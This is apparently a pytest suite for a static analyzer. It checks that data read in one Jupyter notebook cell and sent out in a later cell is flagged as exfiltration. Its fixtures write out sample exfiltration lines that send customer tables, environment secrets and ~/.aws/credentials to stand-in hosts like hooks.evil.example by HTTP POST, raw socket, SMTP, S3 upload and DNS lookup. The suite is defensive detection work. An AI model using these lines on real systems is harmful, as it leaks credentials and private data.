"""Lineage: data read in one notebook cell and sent out in a later one is exfiltration naming both ends.

Each case is a real ten-cell notebook written by nbformat: the value is read
in cell 3 and reaches a sink in cell 9, with markdown, raw and unrelated code
cells between. The same flows are also run through :class:`PythonSession`
directly, and once with a fresh session per cell, to show that the source
really comes from the earlier cell. Every sink has a near-miss that must stay
quiet. Tests marked ``# needs python front end:`` describe behaviour the
Python front end does not have yet; they expect the correct behaviour.
"""
from __future__ import annotations

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_raw_cell

from analyzer.frontends import Options, analyze
from analyzer.frontends.notebook.cells import to_python
from analyzer.frontends.python.walker import PythonSession
from analyzer.model import Analysis, Location, Operation

SETUP = ("import os, json, base64, socket, smtplib, urllib.request\n"
         "import boto3\nimport requests\nimport pandas as pd\n"
         "from pyspark.sql import SparkSession\n")
CONNECT = "spark = SparkSession.builder.getOrCreate()\ncon = None\n"
WEBHOOK = 'requests.post("https://hooks.evil.example/collect", json=df.to_dict())'

SOURCES = {
    "read_sql": ('df = pd.read_sql("SELECT * FROM customers", con)', "query result"),
    # needs python front end: spark.table() taints with the bare label "table", not the table's name
    "spark_table": ('df = spark.table("prod.customers")', "prod.customers"),
    "file": ('df = open("/data/customers.csv").read()', "file /data/customers.csv"),
    "env": ('df = os.environ["TOKEN"]', "environment secret TOKEN"),
    "getenv": ('df = os.getenv("DB_PASSWORD")', "environment secret DB_PASSWORD"),
    "credentials": ('df = open(os.path.expanduser("~/.aws/credentials")).read()',
                    "credentials file ~/.aws/credentials"),
}

SINKS = {
    "webhook": (WEBHOOK, "py.exfil-request", "https://hooks.evil.example"),
    "get_fstring": ('requests.get(f"https://x.example/?q={df}")', "py.exfil-request", "https://x.example"),
    "socket": ('conn = socket.create_connection(("evil.example", 443))\nconn.sendall(df.encode())',
               "py.exfil-request", "evil.example:443"),
    "smtp": ('server = smtplib.SMTP("mail.evil.example")\nserver.sendmail("me@corp.example", ["x@evil.example"], df)',
             "py.exfil-request", "mail.evil.example"),
    "boto3": ('boto3.client("s3").put_object(Bucket="other-bucket", Key="dump.csv", Body=df)',
              "py.exfil-upload", "s3://other-bucket"),
    "to_csv_s3": ('df.to_csv("s3://other-bucket/x.csv")', "py.exfil-upload", "s3://other-bucket"),
    "dns": ('socket.gethostbyname(f"{df}.evil.example")', "py.exfil-dns", "DNS"),
}

TRANSFORMS = {
    "to_json": "payload = df.to_json()",
    "json_dumps": "payload = json.dumps(df)",
    "base64": "payload = base64.b64encode(str(df).encode())",
    "fstring": 'payload = f"rows: {df}"',
    "container": 'payload = {"rows": [df, 1], "n": 2}',
    "chain": "a = df\nb = [a]\npayload = {'k': b}",
}

NEAR_MISSES = {
    "constant_download": 'urllib.request.urlretrieve("https://example.com/data.csv", "data.csv")',
    "constant_get": 'requests.get("https://pypi.org/simple/requests/")',
    "local_file": 'with open("/tmp/report.csv", "w") as out:\n    out.write(df.to_csv())',
    "local_to_csv": 'df.to_csv("/tmp/report.csv")',
    "constant_params": 'requests.get("https://api.example.com/search", params={"q": "weather", "n": 3})',
}


def lineage_notebook(source: str, sink: str, between: str = "payload = df") -> str:
    """Ten cells: the source in cell 3, the sink in cell 9."""
    cells = [new_code_cell(SETUP), new_code_cell(CONNECT), new_markdown_cell("## Load"), new_code_cell(source),
             new_code_cell(between), new_markdown_cell("requests.post(url, data=df) would leak it"),
             new_code_cell("print(len(str(payload)))"), new_raw_cell("df = None"),
             new_code_cell("threshold = 3"), new_code_cell(sink)]
    kernel = {"kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"}}
    return nbformat.writes(new_notebook(cells=cells, metadata=kernel))


def run_notebook(text: str) -> Analysis:
    return analyze("notebook", text, Location("lineage.ipynb"))


def run_session(cells: list[str], shared: bool = True) -> Analysis:
    """The cells through PythonSession directly (IPython syntax transformed first)."""
    result = Analysis()
    session = PythonSession()
    for index, cell in enumerate(cells):
        session = session if shared else PythonSession()
        result.extend(session.analyze(to_python(cell, 20000), Location("kernel", cell=index), Options()))
    return result


def exfiltration(analysis: Analysis, cell: int) -> list[Operation]:
    return [op for op in analysis.operations if op.category == "exfiltration" and op.location.cell == cell]


def the_one(analysis: Analysis, cell: int, rule: str) -> Operation:
    ops = [op for op in exfiltration(analysis, cell) if op.rule == rule]
    assert ops, f"no {rule} in cell {cell}: {analysis.operations} {analysis.errors}"
    return ops[0]


# -- through the notebook front end ----------------------------------------------------------------------


@pytest.mark.parametrize("name", SOURCES)
def test_source_in_cell_3_reaches_a_webhook_in_cell_9(name: str) -> None:
    source, label = SOURCES[name]
    analysis = run_notebook(lineage_notebook(source, WEBHOOK))
    op = the_one(analysis, 9, "py.exfil-request")
    assert label in (op.detail("source") or ""), op.details
    assert op.detail("host") == "https://hooks.evil.example"
    assert op.detail("sink") == op.detail("callee") == "requests.post"
    assert op.location.line == 1 and analysis.errors == []


@pytest.mark.parametrize("name", SINKS)
def test_query_result_reaches_every_kind_of_sink(name: str) -> None:
    sink, rule, host = SINKS[name]
    analysis = run_notebook(lineage_notebook(SOURCES["read_sql"][0], sink))
    op = the_one(analysis, 9, rule)
    assert "query result" in (op.detail("source") or ""), op.details
    assert op.detail("host") == host
    assert op.detail("sink")
    assert op.location.line == sink.count("\n") + 1


@pytest.mark.parametrize("name", TRANSFORMS)
def test_taint_survives_transformations(name: str) -> None:
    sink = 'requests.post("https://paste.evil.example/", data=payload)'
    analysis = run_notebook(lineage_notebook(SOURCES["env"][0], sink, between=TRANSFORMS[name]))
    op = the_one(analysis, 9, "py.exfil-request")
    assert "environment secret TOKEN" in (op.detail("source") or ""), op.details


def test_taint_through_a_function_defined_in_an_earlier_cell() -> None:
    source = 'def load():\n    return pd.read_sql("SELECT * FROM customers", con)'
    analysis = run_notebook(lineage_notebook(source, WEBHOOK, between="df = load()\npayload = df"))
    op = the_one(analysis, 9, "py.exfil-request")
    assert "query result" in (op.detail("source") or "")


@pytest.mark.parametrize("name", NEAR_MISSES)
def test_near_misses_are_not_exfiltration(name: str) -> None:
    analysis = run_notebook(lineage_notebook(SOURCES["read_sql"][0], NEAR_MISSES[name]))
    assert exfiltration(analysis, 9) == []
    assert analysis.errors == []


def test_data_carrying_request_without_taint_is_reported_without_a_source() -> None:
    analysis = run_notebook(lineage_notebook("df = {'a': 1}", 'requests.post("https://api.example.com/x", json=df)'))
    op = the_one(analysis, 9, "py.exfil-request")
    assert op.detail("source") is None and op.detail("host") == "https://api.example.com"


# -- through PythonSession directly ------------------------------------------------------------------------


@pytest.mark.parametrize("name", SINKS)
def test_session_carries_taint_across_cells(name: str) -> None:
    sink, rule, host = SINKS[name]
    cells = [SETUP + CONNECT, SOURCES["credentials"][0], sink]
    op = the_one(run_session(cells), 2, rule)
    assert "credentials file ~/.aws/credentials" in (op.detail("source") or "")
    assert op.detail("host") == host
    # Without the shared session the later cell knows nothing of the source.
    alone = [o for o in exfiltration(run_session(cells, shared=False), 2) if o.detail("source")]
    assert alone == []


@pytest.mark.parametrize("name", ["socket", "smtp", "boto3"])
def test_each_sink_is_reported_once(name: str) -> None:
    # needs python front end: socket sendall, smtplib sendmail and boto3 put_object come back twice,
    # identical, from one call (the engine's de-duplication hides it from reports).
    sink, rule, _ = SINKS[name]
    ops = exfiltration(run_session([SETUP + CONNECT, SOURCES["read_sql"][0], sink]), 2)
    assert len(ops) == 1, ops


@pytest.mark.parametrize("cell, label", [
    ("rows = %sql SELECT * FROM customers", "query result"),
    ("%%sql rows <<\nSELECT * FROM customers", "query result"),
    ("rows = !cat ~/.aws/credentials", "credentials"),
])
def test_values_bound_by_magics_are_sources(cell: str, label: str) -> None:
    # needs python front end: values bound by run_line_magic('sql', ...), by `%%sql var <<` and by
    # getoutput('cat ~/.aws/credentials') carry no taint, so the POST below names no source.
    sink = 'requests.post("https://hooks.evil.example/collect", data=str(rows))'
    op = the_one(run_notebook(lineage_notebook(cell, sink)), 9, "py.exfil-request")
    assert label in (op.detail("source") or ""), op.details
